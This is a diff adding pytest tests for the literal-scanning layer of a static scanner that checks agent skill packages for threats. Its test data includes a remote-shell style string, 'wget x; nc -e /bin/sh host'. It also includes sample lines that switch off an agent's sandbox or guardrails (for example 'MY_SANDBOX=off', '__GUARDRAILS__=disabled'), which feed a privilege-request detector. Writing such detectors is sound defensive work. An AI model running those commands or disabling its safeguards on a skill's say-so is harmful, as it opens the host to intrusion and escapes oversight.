@@ -7,6 +7,7 @@ import re
 
 import pytest
 
+from scorers.static_judge import literal_scan
 from scorers.static_judge.literal_scan import (
     FoldedText,
     LineIndex,
@@ -147,7 +148,7 @@ def test_clauses_of_fewest_and_longest_literals_are_checked_first() -> None:
     assert sizes == sorted(sizes)
 
 
-def test_literal_look_up_through_distinct_words_equals_the_substring_test() -> None:
+def test_literal_look_up_equals_the_substring_test() -> None:
     literals = {
         literal
         for regex in ALL_REGEXES
@@ -189,3 +190,178 @@ def test_no_line_pattern_matches_an_empty_line() -> None:
         assert pattern.regex.search("") is None, pattern.name
     assert shell_js._SHELL_SOURCE.search("") is None
     assert shell_js._SHELL_SINK.search("") is None
+
+
+def _registered_literals() -> set[str]:
+    return {
+        literal
+        for regex in ALL_REGEXES
+        for alternative in scanner_for(regex).alternatives or []
+        for clause in alternative.clauses
+        for literal in clause
+    }
+
+
+def test_automaton_look_ups_equal_the_substring_test() -> None:
+    literals = _registered_literals()
+    assert literal_scan.ahocorasick is not None, "the automaton module is a dependency"
+    assert {lit for lit in literals if len(lit) >= 3} <= literal_scan.LITERALS.covered | (
+        literal_scan.LITERALS.pending
+    )
+    for text in TEXTS[::3]:
+        folded = FoldedText(text)
+        found = 0
+        for literal in sorted(literals):
+            assert folded.has(literal) == (literal in fold(text)), (literal, text[:60])
+            found += folded.has(literal)
+        covered, present = folded.found()
+        assert present == {lit for lit in covered if lit in fold(text)}
+
+
+def test_a_literal_registered_after_a_look_up_is_found_too() -> None:
+    index = literal_scan.LiteralIndex()
+    index.register(["curl", "wget"])
+    covered, found = index.found_in("wget x; nc -e /bin/sh host")
+    assert (sorted(covered), sorted(found)) == (["curl", "wget"], ["wget"])
+    index.register(["/bin/sh", "nc"])  # "nc" is too short: looked up on its own
+    covered, found = index.found_in("wget x; nc -e /bin/sh host")
+    assert sorted(found) == ["/bin/sh", "wget"] and "nc" not in covered
+
+
+def _fresh_scanners(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Scanners and texts built anew (the cached ones were derived the normal way)."""
+    scanner_for.cache_clear()
+    literal_scan.folded_text.cache_clear()
+    literal_scan.line_index.cache_clear()
+    monkeypatch.setattr(literal_scan, "LITERALS", literal_scan.LiteralIndex())
+
+
+@pytest.fixture
+def restore_scanners():
+    yield
+    scanner_for.cache_clear()
+    literal_scan.folded_text.cache_clear()
+    literal_scan.line_index.cache_clear()
+
+
+def _judge_answers() -> list[dict]:
+    from scorers.static_judge.judge import answer
+    from tests.support.wild_families import CASES
+
+    packages = [{"SKILL.md": text} for text in EXAMPLE_TEXTS[::4]]
+    packages += [case.files for case in CASES]
+    return [answer("threat", files) for files in packages]
+
+
+def _matches_everywhere() -> None:
+    for regex in ALL_REGEXES:
+        scanner = scanner_for(regex)
+        for text in TEXTS[::5]:
+            expected = [m.span() for m in regex.finditer(text)]
+            assert [m.span() for m in scanner.finditer(text)] == expected, text
+
+
+def test_without_the_automaton_module_the_matches_are_the_same(
+    monkeypatch: pytest.MonkeyPatch, restore_scanners: None
+) -> None:
+    expected = _judge_answers()
+    _fresh_scanners(monkeypatch)
+    monkeypatch.setattr(literal_scan, "ahocorasick", None)
+    _matches_everywhere()
+    assert not literal_scan.LITERALS.covered and not literal_scan.LITERALS.pending
+    assert _judge_answers() == expected
+
+
+@pytest.mark.parametrize("failure", ["derivation raises", "no private parser"])
+def test_a_failing_literal_derivation_leaves_the_regex_whole(
+    failure: str, monkeypatch: pytest.MonkeyPatch, restore_scanners: None
+) -> None:
+    """Should the re module's private parser change, every rule still finds its matches."""
+    expected = _judge_answers()
+    _fresh_scanners(monkeypatch)
+    if failure == "derivation raises":
+
+        def broken(regex: re.Pattern[str]) -> None:
+            raise AttributeError("module 're._parser' has no attribute 'parse'")
+
+        monkeypatch.setattr(literal_scan, "_derive_alternatives", broken)
+    else:
+        monkeypatch.setattr(literal_scan, "_sre_parse", None)
+    assert all(scanner_for(regex).alternatives is None for regex in ALL_REGEXES)
+    assert scanner_for(ALL_REGEXES[0]).candidate_lines(LineIndex("a\nb")) is None
+    _matches_everywhere()
+    assert _judge_answers() == expected
+
+
+def test_line_index_shares_the_look_ups_of_its_text_when_only_a_final_newline_differs() -> None:
+    for text in TEXTS[::4]:
+        for variant in (text + "\n", text.replace("\n", "\r\n") + "\r\n", text):
+            index = LineIndex(variant)
+            if variant.endswith("\n") and "\r" not in variant:
+                assert index.joined is literal_scan.folded_text(variant)
+            else:
+                assert index.joined.text == "\n".join(variant.splitlines())
+            for regex in ALL_REGEXES:
+                candidates = scanner_for(regex).candidate_lines(index)
+                if candidates is not None:
+                    matching = {n for n, line in enumerate(index.lines, 1) if regex.search(line)}
+                    assert matching <= set(candidates), (regex.pattern[:40], variant[:60])
+
+
+WORD_RUN_TEXTS = [
+    "Set MY_SANDBOX=off before running.",
+    "export AGENT_SAFE_MODE = 'false' and CONFIRM_ALL=0",
+    "x9SANDBOX=off (a digit before the run)",
+    "\u017fandbox_SECURITY=none; \u0130_PERMISSIONS=skip; \u212aEY_APPROVALS=no",
+    "__GUARDRAILS__=disabled",
+    "sandbox=off at the start, then _sandbox=0, then é_SANDBOX=off",
+    "SANDBOX" * 40 + "=off " + "A" * 500 + "SECURITY=0",
+    "no assignment: the SANDBOX stays on; PERMISSIONS are asked",
+]
+
+
+def test_word_run_starts_find_exactly_the_regex_matches() -> None:
+    (regex,) = [p.regex for p in PROSE_PATTERNS if p.name == "privilege-request"]
+    scanner = scanner_for(regex)
+    assert any(a.after_word_run for a in scanner.alternatives or [])
+    assert all(a.starts for a in scanner.alternatives or [])
+    plain = re.compile(r"\b[A-Z_]*(?:SANDBOX|SECURITY)[a-z]*\s*=\s*0|\bon\b", re.I)
+    found = 0
+    for text in WORD_RUN_TEXTS + [t.lower() for t in WORD_RUN_TEXTS] + TEXTS[::6]:
+        for pattern in (regex, plain):
+            expected = [m.span() for m in pattern.finditer(text)]
+            assert [m.span() for m in scanner_for(pattern).finditer(text)] == expected, text
+            found += len(expected)
+    assert found > 10
+
+
+def _plain_offsets(text: str, literals: frozenset[str]) -> list[int]:
+    folded = fold(text)
+    return sorted(
+        {i for literal in literals for i in range(len(folded)) if folded.startswith(literal, i)}
+    )
+
+
+def test_offsets_and_line_look_ups_equal_the_plain_computations() -> None:
+    literal_sets = {
+        literals
+        for regex in ALL_REGEXES
+        for alternative in scanner_for(regex).alternatives or []
+        for literals in [*alternative.clauses, alternative.starts or frozenset()]
+        if literals
+    }
+    literal_sets |= {frozenset({"c", "cat", "etcat"}), frozenset({"-", "--", "-e"})}
+    texts = [*TEXTS[::7], "cat etcat c\n--x -e\n\ncat", "a-b\n-\n-", ""]
+    for text in texts:
+        folded = FoldedText(text)
+        lines = text.splitlines()
+        for variant in (text, text + "\n"):
+            index = LineIndex(variant)
+            starts = [sum(len(line) + 1 for line in lines[:n]) for n in range(len(lines))]
+            for literals in literal_sets:
+                offsets = _plain_offsets(text, literals)
+                assert folded.offsets(literals) == offsets, (literals, text[:60])
+                expected = {sum(1 for s in starts if s <= offset) for offset in offsets}
+                if variant != text and any(lit.endswith("\n") for lit in literals):
+                    continue  # a literal running into the final newline may add the last line
+                assert index.lines_with(literals) == expected, (literals, variant[:60])
